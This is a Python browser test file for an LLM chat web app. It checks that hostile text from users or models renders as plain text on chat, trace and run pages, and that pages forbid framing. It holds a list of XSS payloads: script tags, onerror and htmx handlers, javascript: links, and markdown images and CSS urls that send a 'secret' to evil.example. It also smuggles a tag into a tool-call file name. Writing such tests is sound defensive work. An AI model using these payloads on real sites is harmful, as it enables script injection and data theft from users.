"""What strangers and models write does nothing in a browser: no dialog, no request elsewhere, no breach of policy.

The `visit` fixture fails the test for any of these.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from runs.llm import scripted
from runs.models import Run
from tests.browser.conftest import Visit
from tests.conftest import Cast

pytestmark = pytest.mark.browser

PAYLOAD = """\
<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>
<iframe srcdoc="<script>alert(4)</script>"></iframe>
<div hx-get="/x" hx-trigger="load" hx-on::load="alert(5)" hx-vals="js:alert(6)" data-hx-get="/y" data-hx-trigger="load">x</div>
[one](javascript:alert(7)) [two](data:text/html,<script>alert(8)</script>) ![three](https://evil.example/p.png?d=secret)
![four][f] <style>body{background:url(https://evil.example/s)}</style> <base href="https://evil.example/">

[f]: https://evil.example/ref.png
"""


def test_hostile_text_is_shown_as_text_wherever_it_comes_from(
    visit: Visit, committed: Cast, start_run: Callable[..., Run], work: Callable[[], None]
) -> None:
    steps = [
        {
            "text": PAYLOAD,
            "tool_calls": [
                {
                    "name": "write_file",
                    "arguments": {"path": "</script><img src=x onerror=alert(9)>.md", "content": PAYLOAD},
                }
            ],
        },
        {"text": PAYLOAD, "hold": "hostile"},
    ]
    run = start_run(committed.alice, PAYLOAD, session_key="s_hostile", steps=steps)
    page = visit.sign_in(committed.alice)
    page.goto("/chat/s_hostile")
    work()
    expect(page.locator("[data-text]")).to_contain_text("<script>alert(1)</script>", timeout=20_000)
    scripted.release("hostile")
    expect(page.locator("[data-live]")).to_have_count(0)

    for path in ("/chat/s_hostile", f"/trace/{run.pk}", f"/trace/{run.pk}?view=events", "/runs", "/"):
        page.goto(path)
        page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
        page.wait_for_load_state("networkidle")
        assert page.locator("main :is(img, iframe, style, base, script, [hx-vals], [hx-on\\:\\:load])").count() == 0, (
            path
        )


def test_a_tag_cut_in_two_by_the_stream_stays_text(
    visit: Visit, committed: Cast, start_run: Callable[..., Run], work: Callable[[], None]
) -> None:
    run = start_run(
        committed.alice,
        "x",
        session_key="s_cut",
        steps=[{"text": "<scr" + "ipt>alert(1)</scr" + "ipt> <img src=x on" + "error=alert(2)>", "hold": "cut"}],
    )
    page = visit.sign_in(committed.alice)
    page.goto("/chat/s_cut")
    work()

    expect(page.locator("[data-text]")).to_contain_text("<script>alert(1)</script>", timeout=20_000)
    assert page.locator("[data-text]").evaluate("node => node.childElementCount") == 0
    scripted.release("cut")
    expect(page.locator(f"#turn-{run.pk} .prose")).to_contain_text("<script>alert(1)</script>")


def test_no_page_can_be_framed(visit: Visit, committed: Cast) -> None:
    response = visit.page.goto("/sign-in")

    assert response is not None
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert "unsafe" not in response.headers["content-security-policy"]
